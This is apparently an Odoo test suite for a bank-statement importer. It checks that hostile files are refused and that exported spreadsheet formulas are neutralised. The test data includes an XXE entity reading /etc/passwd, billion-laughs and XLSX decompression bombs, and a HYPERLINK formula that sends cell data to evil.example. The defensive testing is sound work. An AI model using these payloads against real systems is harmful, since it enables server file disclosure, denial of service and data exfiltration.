import io
import zipfile

from odoo.exceptions import AccessError, UserError
from odoo.tests import tagged

from .common import DATA, BankCommon

XXE_DOCTYPE = (
    b'<!DOCTYPE Document [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
    b'<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02">'
)
LAUGHS_DOCTYPE = (
    b'<!DOCTYPE Document [<!ENTITY l "lol"><!ENTITY l2 "&l;&l;&l;&l;&l;&l;&l;&l;">'
    b'<!ENTITY l3 "&l2;&l2;&l2;&l2;&l2;&l2;&l2;&l2;">]>\n'
    b'<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02">'
)


def camt(doctype=None, remittance=None):
    """The sample CAMT.053 file, with a DOCTYPE and a remittance text."""
    data = (DATA / "camt053_two_accounts.xml").read_bytes()
    if doctype:
        data = data.replace(
            b'<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02">',
            doctype,
            1,
        )
    if remittance:
        data = data.replace(b"c/v fact INV 2026 4", remittance, 1)
    return data


@tagged("post_install", "-at_install")
class TestHostileFiles(BankCommon):
    """Files written to hurt: refused whole, with a reason, nothing imported;
    the parser is no RPC endpoint; exports run no formula."""

    def line_count(self):
        return self.env["account.bank.statement.line"].search_count([])

    def assert_refused(self, data, words, name="statement.xml", bank=None):
        before = self.line_count()
        with self.assertRaises(UserError) as caught:
            self.import_file(name, bank, data=data)
        self.assertIn(words, str(caught.exception))
        self.assertNotIn("root:", str(caught.exception))
        self.assertEqual(self.line_count(), before, "nothing imported")

    def test_entities_are_refused_and_read_no_server_file(self):
        self.sample_invoices()
        self.assert_refused(camt(XXE_DOCTYPE, b"&x;"), "DTD")
        self.assertFalse(
            self.env["account.bank.statement.line"].search(
                [("payment_ref", "like", "root:")]
            )
        )

    def test_billion_laughs_is_refused(self):
        self.assert_refused(camt(LAUGHS_DOCTYPE, b"&l3;"), "DTD")

    def test_a_truncated_file_is_refused_whole_naming_the_line(self):
        self.sample_invoices()
        data = camt()
        cut = data[: data.index(b"avans contract")]
        self.assert_refused(cut, "not well-formed XML at line")

    def test_a_zip_of_statements_goes_through_the_same_parser(self):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("evil.xml", camt(XXE_DOCTYPE, b"&x;"))
        self.assert_refused(buffer.getvalue(), "DTD", name="statements.zip")

    def test_the_parser_is_no_rpc_endpoint_for_users_without_bank_rights(self):
        parser = self.env["account.statement.import.camt.parser"]
        portal = self.env["res.users"].create(
            {
                "name": "Portal Customer",
                "login": "camt_portal",
                "groups_id": [(6, 0, [self.env.ref("base.group_portal").id])],
            }
        )
        internal = self.env["res.users"].create(
            {
                "name": "Employee",
                "login": "camt_employee",
                "groups_id": [(6, 0, [self.env.ref("base.group_user").id])],
            }
        )
        for user in (portal, internal):
            with self.subTest(user=user.login), self.assertRaises(AccessError):
                parser.with_user(user).parse(camt(XXE_DOCTYPE, b"&x;"))
        # and whoever may call it gets the refusal, never the file
        with self.assertRaises(UserError):
            parser.parse(camt(XXE_DOCTYPE, b"&x;"))

    def test_a_clean_file_still_imports(self):
        invoices = self.sample_invoices()
        self.import_file("camt053_two_accounts.xml")
        self.assertEqual(invoices[4].payment_state, "paid")

    def test_an_xlsx_bomb_is_refused_before_it_is_read(self):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("[Content_Types].xml", b"<Types/>")
            archive.writestr(
                "xl/worksheets/sheet1.xml",
                b"<worksheet>" + b"<row/>" * 8_000_000 + b"</worksheet>",
            )
        bomb = buffer.getvalue()
        self.assertLess(len(bomb), 200_000)
        self.assert_refused(bomb, "expands", name="extras.xlsx", bank="bt")

    def test_remittance_formulas_are_exported_as_text(self):
        self.sample_invoices()
        formula = b'=HYPERLINK("http://evil.example/?x="&amp;A1,"Click")'
        lines = self.import_file(
            "camt053_two_accounts.xml", data=camt(remittance=formula)
        )
        line = lines.filtered(lambda line: "HYPERLINK" in (line.payment_ref or ""))
        self.assertTrue(line)
        self.assertTrue(line.payment_ref.startswith("="), "stored as the bank wrote it")
        [[exported]] = line.export_data(["payment_ref"])["datas"]
        self.assertEqual(exported, "'" + line.payment_ref)
